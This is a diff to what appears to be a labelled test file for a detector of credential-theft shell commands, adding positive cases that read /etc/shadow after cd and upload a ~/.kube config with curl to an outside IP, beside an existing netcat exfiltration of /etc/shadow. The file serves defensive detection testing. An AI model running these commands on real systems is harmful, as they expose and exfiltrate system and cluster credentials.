@@ -205,3 +205,10 @@ gpg --export -a me@example.org | curl -s --data-binary @- https://keys.example/
 tar -C / -czf - etc/shadow | nc 198.51.100.3 9
 #@ neg a file whose name ends like it
 ls myetc/shadow_copy
+#@ pos a credential file named relative to the directory cd went to
+cd /etc && cat shadow
+#@ pos the same in a subshell, with the home's kube directory
+(cd "$HOME/.kube"; curl -s -T config https://203.0.113.9/u)
+#@ neg an ordinary file after cd
+cd /etc && cat hostname
+cd build && cat config
